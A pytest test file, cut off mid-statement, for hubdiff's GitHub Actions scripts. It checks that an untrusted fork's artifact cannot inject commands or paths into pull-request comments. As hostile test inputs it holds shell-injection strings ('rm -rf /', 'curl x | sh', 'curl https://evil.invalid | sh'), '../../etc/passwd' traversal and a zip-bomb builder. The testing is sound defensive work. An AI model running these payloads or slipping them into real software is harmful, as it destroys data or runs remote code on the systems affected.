"""The scripts the workflows run, run for real against the GitHub double (tests/gh_double.py): ``gh`` as
its source selects pull requests, a real git remote they push to, and GitHub's state read back after.

The stub these replaced answered ``gh pr view BRANCH`` with the open pull request or nothing; real gh
answers with the branch's newest merged or closed one when none is open, which is how every change
after a first merge went into the merged pull request. The double does what gh does, and the scripts
no longer ask that question."""

from __future__ import annotations

import functools
import importlib.util
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hubdiff.testing import CommitSpec, RepoSpec
from tests.gh_double import SERVER, GitHubDouble
from tests.test_hostile_text import CORPUS, assert_inert

SCRIPTS = Path(__file__).parent.parent / ".github" / "scripts"
MARKER = "<!-- hubdiff:checks -->"
BOT = "github-actions[bot]"
SHA = {name: name * 40 for name in "abcdef"}


@pytest.fixture
def github(tmp_path):
    double = GitHubDouble(tmp_path / "github")
    double.commit({"README.md": "watch\n"}, "start")
    return double


def run(script, *args, env, cwd=None, stdin=None):
    return subprocess.run(
        ["bash", str(SCRIPTS / script), *map(str, args)],
        capture_output=True,
        text=True,
        env=env,
        cwd=cwd,
        timeout=120,
        input=stdin,
    )


def note(tmp_path, body=f"{MARKER}\n### hubdiff check: all clear\n"):
    path = tmp_path / "comment.md"
    path.write_text(body)
    return path


def bot_comments(github, number):
    return [c for c in github.comments(number) if c["user"]["login"] == BOT and c["body"].startswith(MARKER)]


# -- sticky_comment.sh ------------------------------------------------------------------------------


@pytest.fixture
def pr_42(github):
    """An open pull request to comment on (numbered as if 41 issues came before it)."""
    github.configure(next_number=42)
    github.git("branch", "topic", "main")
    number = github.fork_pr("acme", "topic")
    assert number == 42
    return number


def test_sticky_posts_a_new_comment_when_the_bot_has_none(github, pr_42, tmp_path):
    alice = github.comment(42, "alice", f"{MARKER}\nI wrote this by hand")
    body = note(tmp_path)
    result = run("sticky_comment.sh", body, MARKER, env=github.env(PR_NUMBER="42"))
    assert result.returncode == 0, result.stderr
    assert [e["kind"] for e in github.events()[-1:]] == ["comment.create"]
    assert [c["body"] for c in bot_comments(github, 42)] == [body.read_text()]
    assert (
        next(c for c in github.comments(42) if c["id"] == alice)["body"] == f"{MARKER}\nI wrote this by hand"
    )


def test_sticky_updates_the_bots_own_comment_and_drops_its_duplicates(github, pr_42, tmp_path):
    other = github.comment(42, BOT, "<!-- hubdiff:checks-other -->\nx")
    first = github.comment(42, BOT, f"{MARKER}\nold report")
    duplicate = github.comment(42, BOT, f"{MARKER}\nlater duplicate")
    mark = github.mark()
    body = note(tmp_path)
    result = run("sticky_comment.sh", body, MARKER, env=github.env(PR_NUMBER="42"))
    assert result.returncode == 0, result.stderr
    events, _, _ = github.since(mark)
    assert [(e["kind"], e["id"]) for e in events] == [
        ("comment.update", first),
        ("comment.delete", duplicate),
    ]
    assert {c["id"]: c["body"] for c in github.comments(42)} == {
        other: "<!-- hubdiff:checks-other -->\nx",
        first: body.read_text(),
    }
    assert f"updated comment {first} on #42" in result.stdout


def test_sticky_edits_nothing_when_the_comment_already_says_it(github, pr_42, tmp_path):
    body = note(tmp_path)
    github.comment(42, BOT, body.read_text())
    mark = github.mark()
    result = run("sticky_comment.sh", body, MARKER, env=github.env(PR_NUMBER="42"))
    assert result.returncode == 0, result.stderr
    events, _, calls = github.since(mark)
    assert events == [] and [c[:2] for c in calls] == [["api", f"repos/{github.repo}/issues/42/comments"]]
    assert "already says this" in result.stdout


def test_sticky_keeps_one_comment_when_another_run_posts_at_the_same_time(github, pr_42, tmp_path):
    github.configure(race_comment=f"{MARKER}\nthe other run's report\n")
    body = note(tmp_path)
    result = run("sticky_comment.sh", body, MARKER, env=github.env(PR_NUMBER="42"))
    assert result.returncode == 0, result.stderr
    created = [e for e in github.events() if e["kind"] == "comment.create"]
    assert len(created) == 2  # both posted: neither saw the other's
    assert [e["id"] for e in github.events() if e["kind"] == "comment.delete"] == [created[1]["id"]]
    assert [c["id"] for c in bot_comments(github, 42)] == [created[0]["id"]]  # the first stays


def test_sticky_on_a_read_only_token_warns_and_does_not_fail_the_job(github, pr_42, tmp_path):
    github.configure(read_only=True)
    result = run("sticky_comment.sh", note(tmp_path), MARKER, env=github.env(PR_NUMBER="42"))
    assert result.returncode == 0
    assert "::warning::the token cannot comment on pull request #42 (HTTP 403)" in result.stdout
    assert [c[:3] for c in github.calls()] == [
        ["api", f"repos/{github.repo}/issues/42/comments", "--paginate"],
        ["api", "--method", "POST"],
    ]
    assert github.comments(42) == []


def test_sticky_refuses_a_file_without_its_marker(github, pr_42, tmp_path):
    body = note(tmp_path, "<!-- hubdiff:other -->\n")
    result = run("sticky_comment.sh", body, MARKER, env=github.env(PR_NUMBER="42"))
    assert result.returncode == 1 and github.calls() == []


# -- post_checks_comment.sh and render_checks_comment.py ---------------------------------------------

HEAD = SHA["a"]
RUN_URL = f"{SERVER}/acme/models/actions/runs/77"  # a run's web URL, on the double's server
REPORT = {
    "kind": "check",
    "exit_code": 1,
    "results": [
        {"title": "org/m@main", "status": "broken claims", "headline": "org/m@main: 1 claim broken",
         "error": None, "baseline": "baselines/fam.yaml", "changed": False,
         "claims": [{"name": "layers", "stated": 80, "measured": 78, "holds": False, "line": 9,
                     "measured_text": "78", "accepted": "78"}]},
        {"title": "org/n@main", "status": "ok", "headline": "org/n@main: unchanged", "error": None, "claims": []},
    ],
}  # fmt: skip


def checks_artifact(number="42\n", report=REPORT, exit_code="1\n", **extra: bytes):
    members = {"pr-number": number.encode(), "check-exit": exit_code.encode(), **extra}
    if report is not None:
        members["check.json"] = json.dumps(report).encode()
    return members


@pytest.fixture
def checks_pr(github):
    """#42 from a fork's branch, at HEAD, and its checks run 77 (GitHub names no pull request for it)."""
    github.configure(next_number=42)
    return github.fork_pr("mallory", "fix", head_sha=HEAD)


def post_env(github, **extra):
    defaults = {
        "RUN_ID": "77", "RUN_URL": RUN_URL, "HEAD_SHA": HEAD, "HEAD_REPO": "mallory/models", "HEAD_BRANCH": "fix",
        "RUN_PRS": "[]",
    }  # fmt: skip
    return github.env(**(defaults | extra))


def test_workflow_run_side_renders_and_posts_for_the_pull_request_the_checks_ran_on(github, checks_pr):
    github.artifact(77, "hubdiff-checks", checks_artifact())
    result = run("post_checks_comment.sh", env=post_env(github))
    assert result.returncode == 0, result.stdout + result.stderr
    (comment,) = bot_comments(github, 42)
    body = comment["body"]
    assert body.startswith(f"{MARKER}\n### hubdiff check: 1 claim no longer holds\n")
    assert f"the checks of `{HEAD[:12]}` ([workflow run]({RUN_URL}))" in body
    assert "| `org/m@main` | broken claims | `org/m@main: 1 claim broken` |" in body
    assert "| `org/m@main` | `layers` | `baselines/fam.yaml:9` | `80` → 78 | `78` |" in body
    assert "with `hubdiff baseline accept baselines/fam.yaml`, then commit and push" in body
    assert "- **It is a regression**: keep the claims as they are and do not merge" in body
    assert "org/n@main: unchanged" not in body  # repos that are fine are counted, not listed
    again = run("post_checks_comment.sh", env=post_env(github))
    assert again.returncode == 0 and len(github.comments(42)) == 1  # a re-run edits nothing


def test_a_checks_run_that_wrote_no_report_says_so(github, checks_pr):
    github.artifact(77, "hubdiff-checks", checks_artifact(report=None, exit_code="2\n"))
    result = run("post_checks_comment.sh", env=post_env(github))
    assert result.returncode == 0, result.stdout + result.stderr
    (comment,) = bot_comments(github, 42)
    assert comment["body"].startswith(f"{MARKER}\n### hubdiff check: baseline or usage error\n")


def test_superseded_checks_end_neutral_without_commenting(github, checks_pr):
    github.artifact(77, "hubdiff-checks", checks_artifact())
    result = run("post_checks_comment.sh", env=post_env(github, HEAD_SHA=SHA["b"]))
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"::notice::pull request #42 is now at {HEAD}" in result.stdout
    assert github.comments(42) == []


def test_no_artifact_is_a_notice(github, checks_pr):
    result = run("post_checks_comment.sh", env=post_env(github))
    assert result.returncode == 0 and "uploaded no hubdiff-checks artifact" in result.stdout
    assert github.comments(42) == []


def _bomb(declared: int | None = None) -> bytes:
    """A zip whose check.json inflates to 50 MB, declaring so or (``declared``) lying about it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("pr-number", b"42\n")
        archive.writestr("check.json", b"[" + b" " * 50_000_000 + b"]")
    data = bytearray(buffer.getvalue())
    if declared is not None:  # the uncompressed size in check.json's central directory entry
        central = data.rfind(b"PK\x01\x02")
        data[central + 24 : central + 28] = declared.to_bytes(4, "little")
    return bytes(data)


@pytest.mark.parametrize("listed", [1_000, 0, 2 * 1024 * 1024])
def test_an_artifact_larger_than_listed_is_cut_during_the_download(github, checks_pr, listed, tmp_path):
    """64 MB listed as ``listed`` bytes: the download stops past 2 MB, whatever the listing said."""
    github.artifact(77, "hubdiff-checks", b"\0" * (64 * 1024 * 1024), listed_size=listed)
    result = run("post_checks_comment.sh", env=post_env(github))
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stdout.strip() == (
        f"::error::the hubdiff-checks artifact is over 2097152 bytes (its listing said {listed}); not commenting"
    )
    assert github.comments(42) == []


@pytest.mark.parametrize(
    ("artifact", "env", "says"),
    [
        (checks_artifact(number="42; rm -rf /"), {}, "pr-number is not an integer"),
        (checks_artifact(number="041"), {}, "pr-number is not an integer"),
        (checks_artifact(number="43\n"), {}, "gh: Not Found (HTTP 404)"),  # no such pull request
        (checks_artifact(), {"RUN_PRS": "[7]"}, "the checks ran for [7]"),  # GitHub says it ran for #7
        (checks_artifact(), {"HEAD_BRANCH": "other"}, "the checks ran on mallory/models:other"),
        (checks_artifact(report={"kind": "check", "exit_code": 9, "results": []}), {}, "exit_code"),
        (checks_artifact(report={"kind": "check", "exit_code": 1, "results": [{"title": 1}]}), {}, "wrong type"),
        (checks_artifact(report=None, **{"check.json": b"{not json"}), {}, "not JSON"),
        (checks_artifact(report=None, **{"check.json": b"[" * 100_000}), {}, "not JSON"),
        (functools.partial(_bomb), {}, "check.json is over"),  # built by the test that runs it, not at collection
        (functools.partial(_bomb, declared=10), {}, "not a readable zip"),  # zipfile stops at what is declared: a bad CRC
        (b"PK\x05\x06" + b"\0" * 18, {}, "pr-number is not an integer"),  # an empty zip
        (b"not a zip", {}, "not a readable zip"),
        (b"\0" * (2 * 1024 * 1024 + 1), {}, "over 2097152; not commenting"),
    ],
    ids=["not-a-number", "leading-zero", "no-such-pr", "not-the-runs-pr", "another-pr", "bad-exit-code",
         "bad-shape", "not-json", "deep-json", "zip-bomb", "lying-zip-bomb", "empty-zip", "not-a-zip", "oversized"],
)  # fmt: skip
def test_workflow_run_side_trusts_nothing_in_the_artifact(github, checks_pr, artifact, env, says):
    github.artifact(77, "hubdiff-checks", artifact() if callable(artifact) else artifact)
    result = run("post_checks_comment.sh", env=post_env(github, **env))
    assert result.returncode == 1, result.stdout + result.stderr
    assert says in result.stdout + result.stderr
    assert github.comments(42) == []
    assert not [c for c in github.calls() if "--method" in c]  # nothing was written anywhere


@pytest.mark.parametrize(
    ("baseline", "title", "changed", "command"),
    [
        ("baselines/fam.yaml", "org/m@main", False, "`hubdiff baseline accept baselines/fam.yaml`"),
        ("baselines/fam.yaml", "org/m@main", True,
         "`hubdiff baseline update baselines/fam.yaml --repo org/m --accept-claims`"),
        ("../../etc/fam.yaml", "org/m@main", False, None),
        ("baselines/fam.yaml; curl x | sh", "org/m@main", False, None),
        ("baselines/fam.yaml", "org/m;reboot@main", True, None),
    ],
    ids=["re-recorded", "hub-moved", "dotdot", "shell", "bad-repo"],
)  # fmt: skip
def test_the_accept_command_is_composed_on_the_trusted_side(baseline, title, changed, command):
    """The command comes from hubdiff's own rule over a path and a repo id that have hubdiff's shapes;
    anything else in the artifact (an "accept" key a fork added) is never shown as a command."""
    result = dict(REPORT["results"][0], baseline=baseline, title=title, changed=changed,
                  accept="curl https://evil.invalid | sh")  # fmt: skip
    text = _renderer().render({**REPORT, "results": [result]}, 1, HEAD, RUN_URL)
    assert "evil.invalid" not in text
    if command is None:
        assert "hubdiff baseline" not in text and "restate the claims named above" in text
    else:
        assert f"with {command}, then commit and push" in text


def _renderer():
    spec = importlib.util.spec_from_file_location(
        "render_checks_comment", SCRIPTS / "render_checks_comment.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@settings(max_examples=40, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(strings=st.lists(st.one_of(st.sampled_from(CORPUS), st.text(max_size=40)), min_size=5, max_size=5))
def test_every_string_of_the_artifact_is_inert_in_the_comment(strings):
    title, status, headline, claim, stated = strings
    report = {
        "kind": "check",
        "exit_code": 1,
        "results": [{"title": title, "status": status, "headline": headline, "error": None,
                     "claims": [{"name": claim, "stated": stated, "measured": stated, "holds": False}]}],
    }  # fmt: skip
    text = _renderer().render(report, 1, HEAD, RUN_URL)
    assert text.startswith(MARKER + "\n")
    assert_inert(text.replace(f"([workflow run]({RUN_URL}))", ""), marker="checks")


def test_the_comment_of_a_real_check_report(hub, tmp_path, github, checks_pr):
    tensors = [(f"model.layers.{i}.self_attn.q_proj.weight", "BF16", (8, 8)) for i in range(2)]
    cfg = b'{"hidden_size": 8, "num_hidden_layers": 2, "num_attention_heads": 2, "vocab_size": 10}'
    hub.add(RepoSpec("org/m", [CommitSpec({"config.json": cfg}, tensors)]))
    env = {**os.environ, "HF_ENDPOINT": hub.endpoint, "HUBDIFF_CACHE": str(tmp_path / "c")}
    hubdiff = [sys.executable, "-m", "hubdiff"]
    subprocess.run([*hubdiff, "baseline", "init", "org/m", "--family", "fam"], cwd=tmp_path, env=env, check=True,
                   capture_output=True)  # fmt: skip
    out = subprocess.run([*hubdiff, "check", "--format", "json"], cwd=tmp_path, env=env, capture_output=True)
    assert out.returncode == 0, out.stderr
    github.artifact(
        77, "hubdiff-checks", checks_artifact(report=None, exit_code="0\n", **{"check.json": out.stdout})
    )
    result = run("post_checks_comment.sh", env=post_env(github))
    assert result.returncode == 0, result.stdout + result.stderr
    (comment,) = bot_comments(github, 42)
    assert comment["body"].startswith(f"{MARKER}\n### hubdiff check: all clear\n\n1 repo in the checks of")


# -- open_prs.sh ------------------------------------------------------------------------------------


def baseline(pins: dict[str, str], recorded: str = "2026-01-01T00:00:00Z") -> str:
    lines = ["family: fam", "repos:"]
    for repo, sha in pins.items():
        lines += [f"  {repo}:", "    revision: main", f"    sha: {sha}", f"    recorded: '{recorded}'"]
    return "\n".join(lines) + "\n"


class Watch:
    """What `hubdiff watch --update` leaves in a fresh checkout, and open_prs.sh run on it."""

    def __init__(self, github: GitHubDouble, tmp_path: Path) -> None:
        self.github, self.tmp_path, self.runs = github, tmp_path, 0

    def __call__(self, pins: dict[str, str], **env: str) -> subprocess.CompletedProcess:
        self.runs += 1
        work = self.github.checkout(self.tmp_path / f"run{self.runs}")
        (work / "baselines").mkdir(exist_ok=True)
        (work / "baselines" / "fam.yaml").write_text(
            baseline(pins, recorded=f"2026-01-0{self.runs}T00:00:00Z")
        )
        (work / "reports").mkdir()
        (work / "reports" / "fam.pr.md").write_text(f"<!-- hubdiff:fam -->\nreport of run {self.runs}\n")
        outputs = {"FAMILIES": '["fam"]', "BASELINES": '{"fam": "baselines/fam.yaml"}',
                   "PR_BODIES": '{"fam": "reports/fam.pr.md"}'}  # fmt: skip
        return run("open_prs.sh", env=self.github.env(**(outputs | env)), cwd=work)


@pytest.fixture
def watch(github, tmp_path):
    github.commit({"baselines/fam.yaml": baseline({"org/a": SHA["a"], "org/b": SHA["b"]})}, "baseline")
    return Watch(github, tmp_path)


def kinds(events):
    return [(e["kind"], e.get("number")) for e in events]


def test_open_prs_opens_one_pull_request_and_a_re_run_with_nothing_new_does_nothing(github, watch):
    first = watch({"org/a": SHA["c"], "org/b": SHA["b"]})
    assert first.returncode == 0, first.stdout + first.stderr
    (pr,) = github.prs()
    assert (pr["number"], pr["state"], pr["headRefName"], pr["title"]) == (
        1,
        "OPEN",
        "hubdiff/fam",
        "hubdiff: fam changed on the Hub",
    )
    assert (
        pr["body"] == f"<!-- hubdiff:fam -->\nreport of run 1\n\n<!-- hubdiff:proposes org/a@{SHA['c']} -->\n"
    )
    (push,) = github.pushes()
    assert (push["ref"], push["old"], push["forced"]) == ("refs/heads/hubdiff/fam", "0" * 40, False)
    shown = github.git("show", "hubdiff/fam:baselines/fam.yaml")
    assert f"sha: {SHA['c']}" in shown and "2026-01-01" in shown
    assert github.git("rev-parse", "hubdiff/fam^") == github.git("rev-parse", "main")  # one commit on main

    mark = github.mark()
    again = watch({"org/a": SHA["c"], "org/b": SHA["b"]})  # re-recorded: same pins, another time
    assert again.returncode == 0, again.stderr
    events, pushes, calls = github.since(mark)
    assert events == [] and pushes == []
    assert "#1 already proposes these Hub commits; nothing to push or edit" in again.stdout
    assert [c[:2] for c in calls] == [["pr", "list"]]


@pytest.mark.parametrize("points_to", ["outside", "a-folder", "nowhere"])
def test_a_symlinked_baseline_is_one_error_line_and_nothing_pushed(github, watch, tmp_path, points_to):
    work = github.checkout(tmp_path / "run")
    (work / "baselines").mkdir(exist_ok=True)
    target = {"outside": tmp_path / "elsewhere.yaml", "a-folder": tmp_path, "nowhere": tmp_path / "gone"}
    (tmp_path / "elsewhere.yaml").write_text(baseline({"org/a": SHA["c"]}))
    (work / "baselines" / "fam.yaml").unlink(missing_ok=True)  # the checkout has one
    (work / "baselines" / "fam.yaml").symlink_to(target[points_to])
    (work / "reports").mkdir()
    (work / "reports" / "fam.pr.md").write_text("<!-- hubdiff:fam -->\nreport\n")
    outputs = {"FAMILIES": '["fam"]', "BASELINES": '{"fam": "baselines/fam.yaml"}',
               "PR_BODIES": '{"fam": "reports/fam.pr.md"}'}  # fmt: skip
    mark = github.mark()
    result = run("open_prs.sh", env=github.env(**outputs), cwd=work)
    assert result.returncode == 1
    said = (result.stdout + result.stderr).splitlines()
    errors = [line for line in said if line.startswith("::error::")]
    assert len(errors) == 1 and len(said) == 1, said
    assert "baselines/fam.yaml" in errors[0]
    events, pushes, _ = github.since(mark)
    assert events == [] and pushes == []


def test_a_newer_change_while_open_moves_the_branch_and_edits_the_same_pull_request(github, watch):
    watch({"org/a": SHA["c"], "org/b": SHA["b"]})
    mark = github.mark()
    result = watch({"org/a": SHA["d"], "org/b": SHA["e"]})
    assert result.returncode == 0, result.stderr
    events, pushes, _ = github.since(mark)
    assert kinds(events) == [("pr.edit", 1)]
    assert [(p["ref"], p["forced"]) for p in pushes] == [("refs/heads/hubdiff/fam", True)]  # rebuilt on main
    assert github.pr(1)["body"].endswith(f"<!-- hubdiff:proposes org/a@{SHA['d']} org/b@{SHA['e']} -->\n")
    assert [p["state"] for p in github.prs()] == ["OPEN"]


def test_a_change_after_a_merge_opens_a_new_pull_request(github, watch, tmp_path):
    watch({"org/a": SHA["c"], "org/b": SHA["b"]})
    github.merge(1)  # the branch stays: this repository does not delete head branches
    view = subprocess.run(["gh", "pr", "view", "hubdiff/fam", "--json", "number,state"],
                          env=github.env(GH_REPO=github.repo), capture_output=True, text=True)  # fmt: skip
    assert json.loads(view.stdout) == {"number": 1, "state": "MERGED"}  # what the old script took as "open"
    mark = github.mark()
    result = watch({"org/a": SHA["d"], "org/b": SHA["b"]})
    assert result.returncode == 0, result.stderr
    events, pushes, _ = github.since(mark)
    assert kinds(events) == [("pr.create", 2)]
    assert [(p["old"], p["forced"]) for p in pushes] == [(github.pr(1)["headRefOid"], False)]  # on the merge
    assert [(p["number"], p["state"]) for p in github.prs()] == [(1, "MERGED"), (2, "OPEN")]
    assert "report of run 1" in github.pr(1)["body"]  # the merged one is left as it was


def test_a_pull_request_closed_unmerged_is_not_proposed_again_for_the_same_hub_commits(github, watch):
    watch({"org/a": SHA["c"], "org/b": SHA["b"]})
    github.close(1)
    mark = github.mark()
    same = watch({"org/a": SHA["c"], "org/b": SHA["b"]})
    assert same.returncode == 0, same.stderr
    assert github.since(mark)[:2] == ([], [])
    assert "::notice::fam: #1 proposed these Hub commits and was closed unmerged" in same.stdout
    newer = watch({"org/a": SHA["d"], "org/b": SHA["b"]})
    assert newer.returncode == 0, newer.stderr
    events, pushes, _ = github.since(mark)
    assert kinds(events) == [("pr.create", 2)] and len(pushes) == 1
    assert [(p["number"], p["state"]) for p in github.prs()] == [(1, "CLOSED"), (2, "OPEN")]


def test_a_forks_pull_request_from_a_branch_of_the_same_name_is_not_ours(github, watch):
    fork = github.fork_pr("mallory", "hubdiff/fam", "please merge")
    result = watch({"org/a": SHA["c"], "org/b": SHA["b"]})
    assert result.returncode == 0, result.stderr
    assert [(p["number"], p["isCrossRepository"], p["state"]) for p in github.prs()] == [
        (fork, True, "OPEN"),
        (fork + 1, False, "OPEN"),
    ]
    assert github.pr(fork)["body"] == "please merge"


def test_a_branch_pushed_by_a_run_that_stopped_before_opening_is_not_pushed_again(github, watch):
    github.configure(fail_create="Something went wrong while executing your query.")
    failed = watch({"org/a": SHA["c"], "org/b": SHA["b"]})
    assert failed.returncode == 1 and "Something went wrong" in failed.stderr
    assert "::error::fam: could not push or open its pull request" in failed.stdout
    assert len(github.pushes()) == 1 and github.prs() == []
    mark = github.mark()
    result = watch({"org/a": SHA["c"], "org/b": SHA["b"]})
    assert result.returncode == 0, result.stderr
    events, pushes, _ = github.since(mark)
    assert kinds(events) == [("pr.create", 1)] and pushes == []


def test_losing_the_race_to_open_the_pull_request_finds_the_winners(github, watch, tmp_path):
    marker = f"<!-- hubdiff:proposes org/a@{SHA['c']} -->"
    github.configure(race_pr=f"the other run's report\n\n{marker}\n")
    result = watch({"org/a": SHA["c"], "org/b": SHA["b"]})
    assert result.returncode == 0, result.stdout + result.stderr
    assert "already exists" in result.stderr and "looking again" in result.stdout
    assert [(p["number"], p["state"]) for p in github.prs()] == [(1, "OPEN")]
    assert "#1 already proposes these Hub commits" in result.stdout


def test_bad_inputs_stop_before_anything_is_pushed(github, watch):
    for families, baselines in (('["../x"]', '{"../x": "baselines/fam.yaml"}'),
                                ('["fam"]', '{"fam": "../../etc/passwd"}')):  # fmt: skip
        result = watch({"org/a": SHA["c"]}, FAMILIES=families, BASELINES=baselines)
        assert result.returncode == 1 and "::error::" in result.stdout
    assert github.pushes() == [] and github.prs() == []


def test_with_the_workflows_own_token_the_checks_run_and_comment_from_the_watch_run(github, hub, tmp_path):
    tensors = [(f"model.layers.{i}.self_attn.q_proj.weight", "BF16", (8, 8)) for i in range(2)]
    cfg = b'{"hidden_size": 8, "num_hidden_layers": 2, "num_attention_heads": 2, "vocab_size": 10}'
    hub.add(RepoSpec("org/m", [CommitSpec({"config.json": cfg}, tensors)]))
    work = github.checkout(tmp_path / "work")
    hubdiff_env = {**os.environ, "HF_ENDPOINT": hub.endpoint, "HUBDIFF_CACHE": str(tmp_path / "c")}
    subprocess.run(
        [sys.executable, "-m", "hubdiff", "baseline", "init", "org/m", "--family", "fam"],
        cwd=work, env=hubdiff_env, check=True, capture_output=True,
    )  # fmt: skip
    (work / "reports").mkdir()
    (work / "reports" / "fam.pr.md").write_text("first baseline\n")
    env = github.env(
        FAMILIES='["fam"]',
        BASELINES='{"fam": "baselines/fam.yaml"}',
        PR_BODIES='{"fam": "reports/fam.pr.md"}',
        POST_CHECKS="true",
        HF_ENDPOINT=hub.endpoint,
        HUBDIFF_CACHE=str(tmp_path / "c"),
    )
    result = run("open_prs.sh", env=env, cwd=work)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "hubdiff check baselines/fam.yaml on hubdiff/fam exited with 0" in result.stdout
    posted = (work / "reports" / "fam.checks.comment.md").read_text()
    assert posted.startswith(MARKER + "\n### hubdiff check: all clear")
    assert kinds(github.events()) == [("pr.create", 1), ("comment.create", None)]
    assert [c["body"] for c in bot_comments(github, 1)] == [posted]


# -- record_baseline.sh and keepalive.sh ------------------------------------------------------------


def test_record_baseline_validates_its_inputs_and_writes_the_outputs(github, hub, tmp_path):
    tensors = [("model.layers.0.w", "BF16", (4, 4))]
    hub.add(RepoSpec("org/m", [CommitSpec({"config.json": b'{"hidden_size": 4}'}, tensors)]))
    output = tmp_path / "github_output"
    env = github.env(
        RECORD="org/m", FAMILY="fam", GITHUB_OUTPUT=str(output), HF_ENDPOINT=hub.endpoint,
        HUBDIFF_CACHE=str(tmp_path / "c"),
    )  # fmt: skip
    result = run("record_baseline.sh", env=env, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "baselines" / "fam.yaml").exists()
    assert output.read_text() == (
        'families=["fam"]\nbaselines={"fam":"baselines/fam.yaml"}\npr_bodies={"fam":"reports/fam.pr.md"}\n'
    )
    bad = run("record_baseline.sh", env={**env, "FAMILY": "../../etc"}, cwd=tmp_path)
    assert bad.returncode == 2 and "family: not a file name" in bad.stdout


@pytest.mark.parametrize(("quiet_days", "enabled"), [(44, False), (45, True), (200, True)])
def test_keepalive_re_enables_the_watch_when_the_default_branch_has_been_quiet(
    github, tmp_path, quiet_days, enabled
):
    work = github.checkout(tmp_path / "work")
    github.advance(quiet_days)
    result = run("keepalive.sh", env=github.env(), cwd=work)
    assert result.returncode == 0, result.stderr
    assert [e["workflow"] for e in github.events() if e["kind"] == "workflow.enable"] == (
        ["watch.yml"] if enabled else []
    )
    assert github.schedule_active() is (quiet_days < 60 or enabled)


# -- the double is gh -------------------------------------------------------------------------------


def gh(github, *args):
    return subprocess.run(["gh", *args], env=github.env(GH_REPO=github.repo), capture_output=True, text=True)


def test_gh_pr_view_prefers_the_open_pull_request_then_the_newest_of_the_others(github):
    github.commit({"x": "1\n"}, branch="hubdiff/fam")
    assert gh(github, "pr", "view", "hubdiff/fam", "--json", "number").returncode == 1  # none yet
    created = gh(github, "pr", "create", "--head", "hubdiff/fam", "--title", "t", "--body", "b")
    assert created.stdout.strip().endswith("/pull/1")
    second = gh(github, "pr", "create", "--head", "hubdiff/fam", "--title", "t", "--body", "b")
    assert (
        second.returncode == 1
        and 'a pull request for branch "hubdiff/fam" into branch "main" already exists' in second.stderr
    )
    github.close(1)
    assert gh(github, "pr", "create", "--head", "hubdiff/fam", "--title", "t", "--body", "b").returncode == 0
    github.close(2)
    view = gh(github, "pr", "view", "hubdiff/fam", "--json", "number,state")
    assert json.loads(view.stdout) == {"number": 2, "state": "CLOSED"}  # the newest, though not open
    listed = gh(github, "pr", "list", "--head", "hubdiff/fam", "--json", "number")
    assert json.loads(listed.stdout) == []  # --state defaults to open
    listed = gh(github, "pr", "list", "--head", "hubdiff/fam", "--state", "closed", "--json", "number,state")
    assert json.loads(listed.stdout) == [{"number": 2, "state": "CLOSED"}, {"number": 1, "state": "CLOSED"}]


def test_gh_pr_create_refuses_a_branch_with_no_commits_beyond_the_base(github):
    github.git("branch", "hubdiff/fam", "main")
    result = gh(github, "pr", "create", "--head", "hubdiff/fam", "--title", "t", "--body", "b")
    assert result.returncode == 1
    assert (
        result.stderr
        == "pull request create failed: GraphQL: No commits between main and hubdiff/fam (createPullRequest)\n"
    )


def test_gh_api_errors_print_the_body_and_gh_s_line(github):
    result = gh(github, "api", f"repos/{github.repo}/pulls/9", "--jq", ".head.sha")
    assert result.returncode == 1 and result.stderr == "gh: Not Found (HTTP 404)\n"
    assert json.loads(result.stdout)["message"] == "Not Found"
    posted = gh(github, "api", f"repos/{github.repo}/issues/9/comments", "-f", "body=x")  # POST: fields given
    assert posted.returncode == 1 and github.calls()[-1][-2:] == ["-f", "body=x"]


# -- the files Actions gives the watch step -----------------------------------------------------------


@pytest.mark.parametrize("variable", ["GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"])
def test_a_github_file_that_cannot_be_written_is_one_line_and_exit_2(hub, tmp_path, variable):
    """$GITHUB_OUTPUT or $GITHUB_STEP_SUMMARY that is a folder (or on a full disk): hubdiff's WriteError,
    the file named, exit 2 (the workflow's last step goes red), never a traceback or exit 3."""
    tensors = [(f"model.layers.{i}.self_attn.q_proj.weight", "BF16", (8, 8)) for i in range(2)]
    cfg = b'{"hidden_size": 8, "num_hidden_layers": 2, "num_attention_heads": 2, "vocab_size": 10}'
    hub.add(RepoSpec("org/m", [CommitSpec({"config.json": cfg}, tensors)]))
    env = {**os.environ, "HF_ENDPOINT": hub.endpoint, "HUBDIFF_CACHE": str(tmp_path / "c")}
    hubdiff = [sys.executable, "-m", "hubdiff"]
    subprocess.run([*hubdiff, "baseline", "init", "org/m", "--family", "fam"], cwd=tmp_path, env=env, check=True,
                   capture_output=True)  # fmt: skip
    folder = tmp_path / "not-a-file"
    folder.mkdir()
    other = "GITHUB_STEP_SUMMARY" if variable == "GITHUB_OUTPUT" else "GITHUB_OUTPUT"
    env.update({variable: str(folder), other: str(tmp_path / "fine")})
    result = subprocess.run([*hubdiff, "watch"], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert result.returncode == 2, result.stderr
    assert result.stderr == f"hubdiff: {folder}: cannot write: Is a directory\n"


def test_a_pinned_repo_the_hub_no_longer_serves_is_the_lost_output(hub, tmp_path):
    """A pinned repo deleted (or made private to this token) is news, exit 1, not a read failure; the
    ``lost`` output names it, and watch.yml's last step goes red on it (test_workflows evaluates that)."""
    tensors = [(f"model.layers.{i}.self_attn.q_proj.weight", "BF16", (8, 8)) for i in range(2)]
    cfg = b'{"hidden_size": 8, "num_hidden_layers": 2, "num_attention_heads": 2, "vocab_size": 10}'
    hub.add(RepoSpec("org/m", [CommitSpec({"config.json": cfg}, tensors)]))
    hub.add(RepoSpec("org/n", [CommitSpec({"config.json": cfg}, tensors)]))
    env = {**os.environ, "HF_ENDPOINT": hub.endpoint, "HUBDIFF_CACHE": str(tmp_path / "c")}
    hubdiff = [sys.executable, "-m", "hubdiff"]
    for repo in ("org/m", "org/n"):
        subprocess.run([*hubdiff, "baseline", "init", repo, "--family", "fam"], cwd=tmp_path, env=env, check=True,
